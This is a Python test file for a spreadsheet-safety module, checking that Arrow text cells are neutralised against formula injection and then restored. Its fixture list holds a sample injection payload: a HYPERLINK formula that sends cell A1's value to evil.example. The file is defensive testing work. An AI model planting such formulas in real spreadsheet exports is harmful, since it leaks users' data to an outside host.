"""bulletin.core.arrow_safety: Arrow cells a spreadsheet cannot run as formulas, and back."""

from __future__ import annotations

import pyarrow as pa

from bulletin.core.arrow_safety import neutralise_text, restore_arrow
from bulletin.core.files import neutralise_cell

TEXTS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+2",
    "-x",
    "@SUM(A1)",
    "\tcmd",
    "\r=1",
    "'=already quoted",
    "''@twice",
    "-12.5",
    "+3e5",
    "'quoted",
    "plain",
    "",
]


def test_arrow_cells_neutralised_as_neutralise_cell_does_and_restored() -> None:
    safe_text = neutralise_text(pa.array(TEXTS))
    expected = [neutralise_cell(t) for t in TEXTS]
    assert safe_text.to_pylist() == expected
    kg = pa.array([float(i) for i in range(len(TEXTS))])
    safe = pa.table({"text": safe_text, "category": safe_text.dictionary_encode(), "kg": kg})
    back = restore_arrow(safe)
    assert back.column("text").to_pylist() == TEXTS
    assert back.column("category").to_pylist() == TEXTS
    assert back.column("kg").equals(safe.column("kg"))
    assert back.schema == safe.schema
